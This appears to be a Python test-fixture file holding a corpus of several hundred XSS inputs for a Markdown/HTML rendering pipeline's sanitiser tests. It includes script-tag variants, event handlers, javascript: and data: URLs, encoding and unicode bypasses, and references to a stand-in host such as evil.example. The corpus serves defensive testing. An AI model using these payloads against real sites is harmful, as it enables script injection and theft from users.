"""Hostile Markdown/HTML a member might type, for the rendering pipeline's safety tests.

Every payload that could run calls ``alert(1)``, so the browser test can tell by watching
dialogs (and the wrapped ``alert``) whether anything executed. Each case has a stable id so a
failure names the input that got through. A few cases carry NUL bytes: the unit tests render
them, but PostgreSQL cannot store NUL in text, so the browser test leaves them out
(``HAS_NUL``).
"""

from typing import NamedTuple


class HostileCase(NamedTuple):
    id: str
    source: str


LONG = "A" * 4000

# One handler per allowed tag: the tag survives, the handler must not.
_HANDLERS_ON_ALLOWED_TAGS = [
    HostileCase(f"handler-on-{tag}", source)
    for tag, source in [
        ("p", '<p onclick="alert(1)" onmouseover="alert(1)">para</p>'),
        ("br", "line<br onclick=alert(1)>break"),
        ("hr", '<hr onmouseover="alert(1)">'),
        ("strong", '<strong onmouseover="alert(1)">bold</strong>'),
        ("em", '<em onmouseenter="alert(1)">em</em>'),
        ("b", '<b onclick="alert(1)">b</b>'),
        ("i", '<i onpointerover="alert(1)">i</i>'),
        ("del", '<del onmouseover="alert(1)" datetime="x">del</del>'),
        ("s", '<s onfocus="alert(1)" tabindex="0" autofocus>s</s>'),
        ("code", '<code onclick="alert(1)">code</code>'),
        ("pre", '<pre onmouseover="alert(1)">pre</pre>'),
        ("kbd", '<kbd onkeydown="alert(1)" contenteditable>kbd</kbd>'),
        ("blockquote", '<blockquote onclick="alert(1)" cite="javascript:alert(1)">q</blockquote>'),
        ("ul", '<ul onclick="alert(1)"><li>one</li></ul>'),
        ("ol", '<ol onclick="alert(1)" start="3"><li>three</li></ol>'),
        ("li", '<ul><li onmouseover="alert(1)" value="2">li</li></ul>'),
        ("a", '<a href="https://example.com/" onclick="alert(1)">a</a>'),
        ("img", '<img src="x" onerror="alert(1)" onload="alert(1)">'),
        ("h1", '<h1 onclick="alert(1)">h1</h1>'),
        ("h2", '<h2 onmouseover="alert(1)">h2</h2>'),
        ("h3", '<h3 onanimationstart="alert(1)">h3</h3>'),
        ("h4", '<h4 onfocusin="alert(1)">h4</h4>'),
        ("h5", '<h5 oncopy="alert(1)">h5</h5>'),
        ("h6", '<h6 onwheel="alert(1)">h6</h6>'),
        ("table", '<table onclick="alert(1)"><tr><td>t</td></tr></table>'),
        ("thead", '<table><thead onclick="alert(1)"><tr><th>h</th></tr></thead></table>'),
        ("tbody", '<table><tbody onmouseover="alert(1)"><tr><td>b</td></tr></tbody></table>'),
        ("tr", '<table><tr onclick="alert(1)"><td>r</td></tr></table>'),
        ("th", '<table><tr><th align="left" onclick="alert(1)">th</th></tr></table>'),
        ("td", '<table><tr><td align="right" onmouseover="alert(1)">td</td></tr></table>'),
    ]
]

HOSTILE_CORPUS: list[HostileCase] = [
    # --- <script> in many spellings -------------------------------------------------------
    HostileCase("script-plain", "<script>alert(1)</script>"),
    HostileCase("script-mixed-case", "<sCrIpT>alert(1)</ScRiPt>"),
    HostileCase("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    HostileCase("script-space-before-gt", "<script >alert(1)</script >"),
    HostileCase("script-newline-in-tag", "<script\n>alert(1)</script>"),
    HostileCase("script-tab-in-tag", "<script\t>alert(1)</script\t>"),
    HostileCase("script-formfeed-in-tag", "<script\x0c>alert(1)</script>"),
    HostileCase("script-null-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    HostileCase("script-null-before", "x\x00<script>alert(1)</script>"),
    HostileCase("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    HostileCase("script-double-lt", "<<script>script>alert(1)<</script>/script>"),
    HostileCase("script-src", '<script src="//evil.example/x.js"></script>'),
    HostileCase("script-type-module", '<script type="module">alert(1)</script>'),
    HostileCase("script-unclosed", "<script>alert(1)"),
    HostileCase("script-self-closing", '<script src="data:,alert(1)"/>'),
    HostileCase("script-in-paragraph", "Hello <script>alert(1)</script> world"),
    HostileCase("script-in-emphasis", "*<script>alert(1)</script>*"),
    HostileCase("script-in-heading", "# Title <script>alert(1)</script>"),
    HostileCase("script-in-list", "- one\n- <script>alert(1)</script>"),
    HostileCase("script-in-blockquote", "> <script>alert(1)</script>"),
    HostileCase("script-after-close-p", "</p><script>alert(1)</script><p>"),
    HostileCase("script-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    HostileCase("script-entity-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    HostileCase("script-double-entity", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    HostileCase("script-numeric-entity", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    HostileCase("script-attr-breakout", '"><script>alert(1)</script>'),
    HostileCase("script-single-quote-breakout", "'><script>alert(1)</script>"),
    HostileCase("script-in-xml-pi", '<?xml version="1.0"?><script>alert(1)</script>'),
    HostileCase("script-after-doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    HostileCase("script-rtl-override", "\u202e<script>alert(1)</script>\u202c"),
    HostileCase("script-zero-width", "<\u200bscript>alert(1)</script>"),
    # --- event handlers, on allowed and forbidden tags ------------------------------------
    *_HANDLERS_ON_ALLOWED_TAGS,
    HostileCase("img-onerror-unquoted", "<img src=x onerror=alert(1)>"),
    HostileCase("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    HostileCase("img-onerror-tab", "<img src=x\tonerror=alert(1)>"),
    HostileCase("img-onerror-slash", "<img src=x/onerror=alert(1)>"),
    HostileCase("img-onerror-no-space", '<img src="x"onerror="alert(1)">'),
    HostileCase("img-slash-separators", '<img/src="x"/onerror="alert(1)">'),
    HostileCase("img-onerror-entity-value", "<img src=x onerror=&#97;lert(1)>"),
    HostileCase("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    HostileCase("img-quote-soup", '<img """><script>alert(1)</script>">'),
    HostileCase(
        "img-inside-link", '<a href="https://example.com/"><img src=x onerror=alert(1)></a>'
    ),
    HostileCase("svg-onload", "<svg onload=alert(1)>"),
    HostileCase("svg-script", "<svg><script>alert(1)</script></svg>"),
    HostileCase(
        "svg-animate-href",
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/>'
        "<text y=20>x</text></a></svg>",
    ),
    HostileCase("body-onload", "<body onload=alert(1)>"),
    HostileCase(
        "details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"
    ),
    HostileCase("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    HostileCase("select-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    HostileCase("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    HostileCase("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    HostileCase("audio-onerror", "<audio src=x onerror=alert(1)>"),
    HostileCase("custom-element-handler", "<xss onafterscriptexecute=alert(1)>x</xss>"),
    HostileCase("frameset-onload", "<frameset onload=alert(1)>"),
    HostileCase("div-onpointerenter", '<div onpointerenter="alert(1)">hover</div>'),
    HostileCase(
        "span-style-onmouseover", '<span style="display:block" onmouseover=alert(1)>x</span>'
    ),
    # --- javascript:, vbscript:, data: URLs -----------------------------------------------
    HostileCase("md-link-javascript", "[click](javascript:alert(1))"),
    HostileCase("md-link-javascript-mixed-case", "[click](JaVaScRiPt:alert(1))"),
    HostileCase("md-link-javascript-leading-space", "[click]( javascript:alert(1))"),
    HostileCase("md-link-javascript-angle", "[click](<javascript:alert(1)>)"),
    HostileCase("md-link-javascript-entity", "[click](&#106;avascript:alert(1))"),
    HostileCase("md-link-javascript-hex-tab", "[click](java&#x09;script:alert(1))"),
    HostileCase("md-link-javascript-colon-entity", "[click](javascript&colon;alert(1))"),
    HostileCase("md-link-javascript-fullwidth-colon", "[click](javascript\uff1aalert(1))"),
    HostileCase("md-link-javascript-percent", "[click](javascript%3Aalert(1))"),
    HostileCase(
        "md-link-javascript-in-title", '[click](https://example.com/ "javascript:alert(1)")'
    ),
    HostileCase("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    HostileCase(
        "md-link-data-html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    ),
    HostileCase("md-link-data-plain", "[click](data:text/html,<script>alert(1)</script>)"),
    HostileCase("md-image-javascript", "![pic](javascript:alert(1))"),
    HostileCase(
        "md-image-data-svg", "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"
    ),
    HostileCase("md-image-vbscript", "![pic](vbscript:msgbox(1))"),
    HostileCase("md-ref-link-javascript", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    HostileCase(
        "md-ref-link-javascript-angle", '[click][evil]\n\n[evil]: <javascript:alert(1)> "t"'
    ),
    HostileCase("md-ref-link-data", "[click][evil]\n\n[evil]: data:text/html,alert(1)"),
    HostileCase(
        "md-ref-image-data", "![pic][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>"
    ),
    HostileCase("md-ref-link-entity", "[click][evil]\n\n[evil]: &#x6A;avascript:alert(1)"),
    HostileCase("md-nested-link-image", "[![pic](javascript:alert(1))](javascript:alert(1))"),
    HostileCase("md-autolink-javascript", "<javascript:alert(1)>"),
    HostileCase("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    HostileCase("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    HostileCase("bare-javascript-text", "javascript:alert(1)"),
    HostileCase("bare-www-with-javascript-path", "www.example.com/javascript:alert(1)"),
    HostileCase("bare-url-quote-breakout", 'https://example.com/"onmouseover="alert(1)'),
    HostileCase("bare-url-script-tail", "https://example.com/<script>alert(1)</script>"),
    HostileCase("raw-a-javascript", '<a href="javascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-unquoted", "<a href=javascript:alert(1)>click</a>"),
    HostileCase("raw-a-javascript-entity-nosemi", '<a href="&#106avascript:alert(1)">click</a>'),
    HostileCase(
        "raw-a-javascript-padded-entity", '<a href="&#0000106;avascript:alert(1)">click</a>'
    ),
    HostileCase("raw-a-javascript-hex-entity", '<a href="&#x6A;avascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-named-tab", '<a href="java&Tab;script:alert(1)">click</a>'),
    HostileCase(
        "raw-a-javascript-named-newline", '<a href="java&NewLine;script:alert(1)">click</a>'
    ),
    HostileCase("raw-a-javascript-colon-named", '<a href="javascript&colon;alert(1)">click</a>'),
    HostileCase("raw-a-javascript-colon-hex", '<a href="javascript&#x3a;alert(1)">click</a>'),
    HostileCase("raw-a-javascript-colon-dec-nosemi", '<a href="javascript&#58alert(1)">click</a>'),
    HostileCase(
        "raw-a-javascript-leading-space-entity", '<a href="&#x20;javascript:alert(1)">x</a>'
    ),
    HostileCase("raw-a-javascript-leading-control", '<a href="\x01javascript:alert(1)">click</a>'),
    HostileCase(
        "raw-a-javascript-leading-control-entity", '<a href="&#14;javascript:alert(1)">x</a>'
    ),
    HostileCase("raw-a-javascript-tab-inside", '<a href="jav\tascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-newline-inside", '<a href="jav\nascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-cr-entity", '<a href="jav&#x0D;ascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-null-inside", '<a href="javas\x00cript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-zero-width", '<a href="java\u200bscript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-percent-scheme", '<a href="%6Aavascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-after-http", '<a href="http:javascript:alert(1)">click</a>'),
    HostileCase("raw-a-javascript-self-closed", '<a href="javascript:alert(1)"/>click'),
    HostileCase("raw-a-slash-separator", '<a/href="javascript:alert(1)">click</a>'),
    HostileCase(
        "raw-a-duplicate-href", '<a href="https://example.com/" href="javascript:alert(1)">x</a>'
    ),
    HostileCase("raw-a-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    HostileCase("raw-a-livescript", '<a href="livescript:alert(1)">click</a>'),
    HostileCase("raw-a-data-html", '<a href="data:text/html,<script>alert(1)</script>">click</a>'),
    HostileCase(
        "raw-a-data-upper-base64",
        '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    HostileCase("raw-a-jar-javascript", '<a href="jar:javascript:alert(1)">click</a>'),
    HostileCase("raw-a-file-scheme", '<a href="file:///etc/passwd">click</a>'),
    HostileCase("raw-a-mailto-javascript", '<a href="mailto:javascript:alert(1)">mail</a>'),
    HostileCase(
        "raw-a-mailto-onclick", '<a href="mailto:x@example.com" onclick="alert(1)">mail</a>'
    ),
    HostileCase("raw-a-mailto-typed-rel", '<a href="mailto:x@example.com" rel="me">mail</a>'),
    HostileCase("raw-a-typed-rel-opener", '<a href="https://example.com/" rel="opener">x</a>'),
    HostileCase(
        "raw-a-target-ping-download",
        '<a href="https://example.com/" target="_top" ping="https://evil.example/" download>x</a>',
    ),
    HostileCase(
        "raw-a-dom-clobber", '<a id="__xss" name="alert" href="https://example.com/">x</a>'
    ),
    HostileCase("raw-img-javascript", '<img src="javascript:alert(1)">'),
    HostileCase("raw-img-javascript-upper-unquoted", "<IMG SRC=JaVaScRiPt:alert(1)>"),
    HostileCase("raw-img-javascript-backticks", "<img src=`javascript:alert(1)`>"),
    HostileCase("raw-img-javascript-newline-entity", '<IMG SRC="jav&#x0A;ascript:alert(1)">'),
    HostileCase("raw-img-data-png", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    HostileCase("raw-img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    HostileCase(
        "raw-img-srcset-lowsrc",
        '<img src="x" srcset="javascript:alert(1)" lowsrc="javascript:alert(1)"'
        ' dynsrc="javascript:alert(1)">',
    ),
    HostileCase(
        "raw-img-duplicate-src", '<img src="https://example.com/a.png" src="javascript:alert(1)">'
    ),
    # --- forbidden elements -----------------------------------------------------------------
    HostileCase("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    HostileCase(
        "iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    ),
    HostileCase("object-data", '<object data="javascript:alert(1)"></object>'),
    HostileCase("embed-src", '<embed src="javascript:alert(1)">'),
    HostileCase("applet-code", '<applet code="javascript:alert(1)"></applet>'),
    HostileCase("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    HostileCase("button-formaction", "<button formaction=javascript:alert(1)>go</button>"),
    HostileCase("isindex-action", "<isindex action=javascript:alert(1) type=image>"),
    HostileCase("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    HostileCase("base-href", '<base href="javascript:alert(1)//">'),
    HostileCase(
        "link-import", '<link rel="import" href="data:text/html,<script>alert(1)</script>">'
    ),
    HostileCase("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    HostileCase("style-element", "<style>*{background:url(javascript:alert(1))}</style>"),
    HostileCase("style-element-import", "<style>@import 'https://evil.example/x.css';</style>"),
    HostileCase("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    HostileCase(
        "math-mtext-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    HostileCase("template-script", "<template><script>alert(1)</script></template>"),
    HostileCase(
        "noscript-title-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
    HostileCase("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    HostileCase("title-script", "<title><script>alert(1)</script></title>"),
    HostileCase("xmp-script", "<xmp><script>alert(1)</script></xmp>"),
    HostileCase("plaintext-script", "<plaintext><script>alert(1)</script>"),
    HostileCase(
        "svg-foreignobject",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    ),
    # --- style attributes ---------------------------------------------------------------------
    HostileCase("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    HostileCase("style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    HostileCase(
        "style-attr-overlay", '<a href="https://example.com/" style="position:fixed;inset:0">x</a>'
    ),
    HostileCase("style-attr-on-img", '<img src="x" style="behavior:url(x.htc)">'),
    # --- comments and CDATA -------------------------------------------------------------------
    HostileCase("comment-script", "<!-- <script>alert(1)</script> -->"),
    HostileCase("comment-abrupt-close", "<!--><script>alert(1)</script>-->"),
    HostileCase("comment-bang-close", "<!-- x --!><img src=x onerror=alert(1)>"),
    HostileCase("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    HostileCase("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    HostileCase("cdata-in-svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    HostileCase("asp-tag", "<% alert(1) %>"),
    # --- broken and unclosed nesting ----------------------------------------------------------
    HostileCase("unclosed-inline-with-link", '<b><i>unclosed <a href="javascript:alert(1)">x'),
    HostileCase("nested-p-in-a", '<p><a href="https://example.com/"><p>nested</p></a></p>'),
    HostileCase("table-without-rows", "<table><td><script>alert(1)</script>"),
    HostileCase("orphan-td-handler", '<td align="x" onmouseover="alert(1)">cell'),
    HostileCase("misnested-b-i", "<b><i>x</b></i><img src=x onerror=alert(1)>"),
    HostileCase("unclosed-attr-quote", '<a href="https://example.com/ onclick="alert(1)">x'),
    HostileCase("unclosed-tag-eof", "<img src=x onerror=alert(1)"),
    HostileCase("stray-end-tags", "</div></table></pre><img src=x onerror=alert(1)>"),
    HostileCase("deep-nesting", "<blockquote>" * 40 + "<img src=x onerror=alert(1)>"),
    HostileCase("li-outside-list", "<li onclick=alert(1)>orphan</li>"),
    # --- attribute breaking in Markdown titles and alt text -----------------------------------
    HostileCase("md-title-double-quote", '[x](https://a.example "t\\" onclick=\\"alert(1)")'),
    HostileCase("md-title-single-quote", "[x](https://a.example 'a\" onmouseover=\"alert(1)')"),
    HostileCase("md-title-paren", '[x](https://a.example (t" onclick="alert(1)))'),
    HostileCase("md-url-quote-breakout", '[x](https://a.example"onclick="alert(1))'),
    HostileCase("md-image-src-breakout", '![x](x" onerror="alert(1))'),
    HostileCase("md-image-alt-breakout", '![x"onerror="alert(1)](x)'),
    HostileCase("md-image-title-breakout", '![x](x "t\\" onerror=\\"alert(1)")'),
    HostileCase(
        "raw-a-title-script",
        '<a href="https://example.com/" title=\'"><script>alert(1)</script>\'>x</a>',
    ),
    HostileCase(
        "raw-a-href-script-query",
        '<a href="https://example.com/?q=<script>alert(1)</script>">x</a>',
    ),
    # --- Markdown inside HTML, HTML inside Markdown -----------------------------------------
    HostileCase("md-in-div-markdown-attr", '<div markdown="1">[x](javascript:alert(1))</div>'),
    HostileCase("md-in-raw-p", "<p>[x](javascript:alert(1)) and ![y](javascript:alert(1))</p>"),
    HostileCase("raw-a-in-emphasis", '*<a href="javascript:alert(1)">x</a>*'),
    HostileCase(
        "raw-a-in-list", '1. <a href="javascript:alert(1)">x</a>\n2. <img src=x onerror=alert(1)>'
    ),
    HostileCase("raw-a-in-heading", '## <a href="javascript:alert(1)" onclick="alert(1)">x</a>'),
    # --- code must stay inert -------------------------------------------------------------------
    HostileCase("fenced-html-script", "```html\n<script>alert(1)</script>\n```"),
    HostileCase("fenced-img-onerror", "```\n<img src=x onerror=alert(1)>\n```"),
    HostileCase("fenced-tilde-iframe", '~~~\n<iframe src="javascript:alert(1)"></iframe>\n~~~'),
    HostileCase("fenced-attr-list-handler", '``` { .python #x onclick="alert(1)" }\nprint(1)\n```'),
    HostileCase("fenced-lang-handler", "```python onclick=alert(1)\nx\n```"),
    HostileCase("fenced-lang-quote", '```"onclick="alert(1)\nx\n```'),
    HostileCase("fenced-lang-breakout", '~~~ language-x"onmouseover="alert(1)\nx\n~~~'),
    HostileCase("fenced-unclosed", "```\n<script>alert(1)</script>"),
    HostileCase("indented-code-script", "    <script>alert(1)</script>"),
    HostileCase("inline-code-img", "`<img src=x onerror=alert(1)>`"),
    HostileCase("inline-code-link", "`[x](javascript:alert(1))`"),
    HostileCase("raw-code-class-handler", '<code class="language-x onclick=alert(1)">x</code>'),
    HostileCase(
        "raw-code-class-and-handler", '<code class="language-py" onclick="alert(1)">x</code>'
    ),
    HostileCase("raw-code-class-other", '<code class="hidden overlay">x</code>'),
    HostileCase(
        "raw-pre-link-typed-rel", '<pre><a href="https://example.com/" rel="opener">x</a></pre>'
    ),
    # --- tables ----------------------------------------------------------------------------------
    HostileCase(
        "table-script-and-img",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    ),
    HostileCase("table-js-link-cell", "| a |\n|---|\n| [x](javascript:alert(1)) |"),
    HostileCase("table-raw-td-handler", "<table><tr><td onclick=alert(1)>x</td></tr></table>"),
    HostileCase(
        "table-align-injection", '<table><tr><td align="left onclick=alert(1)">x</td></tr></table>'
    ),
    HostileCase("table-header-iframe", "| <iframe src=javascript:alert(1)> |\n|---|\n| x |"),
    # --- other hosts: protocol-relative addresses and images -------------------------------------
    HostileCase("protocol-relative-link", "[x](//evil.example/login)"),
    HostileCase("protocol-relative-raw-link", '<a href="//evil.example/login">x</a>'),
    HostileCase("protocol-relative-backslash", "[x](/\\evil.example/login)"),
    HostileCase("protocol-relative-reference", '<a href="/&#9;/evil.example/">x</a>'),
    HostileCase("external-image-markdown", "![pixel](https://evil.example/leak.png)"),
    HostileCase("external-image-protocol-relative", "![pixel](//evil.example/leak.png)"),
    HostileCase("external-image-raw", '<img src="http://evil.example/leak.png" alt="x">'),
    HostileCase(
        "external-image-in-link", "[![p](https://evil.example/p.png)](https://example.com/)"
    ),
    # --- shapes that once cost the square of their length (small here) ---------------------------
    HostileCase("bracket-bomb", "[" * 2_000 + "]" * 2_000),
    HostileCase("unclosed-link-addresses", "[a](" * 1_000),
    HostileCase("nested-quotes", "> " * 2_000 + "<script>alert(1)</script>"),
    HostileCase("nested-ordered-lists", "1. " * 2_000 + "<img src=x onerror=alert(1)>"),
    HostileCase("unclosed-tag-run", "<a" * 2_000 + " onclick=alert(1)>x"),
    HostileCase("paren-run-before-url", "(" * 2_000 + "javascript:alert(1)"),
    # --- long values -----------------------------------------------------------------------------
    HostileCase("long-src-with-handler", f'<img src="{LONG}" onerror="alert(1)">'),
    HostileCase("long-alt-quotes", '<img alt="' + "&quot;" * 500 + '" onerror=alert(1) src=x>'),
    HostileCase(
        "long-title-then-handler",
        f'<a href="https://example.com/" title="{LONG}" onclick="alert(1)">x</a>',
    ),
    HostileCase("long-md-link-javascript", f"[{LONG}](javascript:alert(1))"),
    HostileCase("ol-start-injection", '<ol start="1 onclick=alert(1)"><li>x</li></ol>'),
    # --- unicode tricks --------------------------------------------------------------------------
    HostileCase("rtl-override-link-text", '<a href="https://example.com/">\u202egnp.exe</a>'),
    HostileCase("rtl-override-in-href", "[x](\u202ejavascript:alert(1))"),
    HostileCase("fullwidth-img", "\uff1cimg src=x onerror=alert(1)\uff1e"),
    HostileCase("fullwidth-javascript-scheme", "[x](\uff4aavascript:alert(1))"),
    HostileCase("homoglyph-scheme", "[x](j\u0430vascript:alert(1))"),
    HostileCase("unicode-escape-text", "<img src=x onerror=\\u0061lert(1)>"),
]

HAS_NUL = frozenset(case.id for case in HOSTILE_CORPUS if "\x00" in case.source)
